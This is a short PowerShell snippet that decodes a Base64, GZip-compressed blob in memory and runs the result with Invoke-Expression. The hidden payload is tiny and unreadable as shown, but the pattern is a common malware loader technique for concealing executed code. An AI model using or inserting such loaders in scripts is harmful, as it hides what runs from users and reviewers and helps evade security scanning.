$data = [System.Convert]::FromBase64String('H4sIAAAAAAAEAAtJLS5RSEvMKU4FAPkIpw8NAAAA')
$ms = New-Object System.IO.MemoryStream(, $data)
$gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
$reader = New-Object System.IO.StreamReader($gz)
$script = $reader.ReadToEnd()
IEX $script
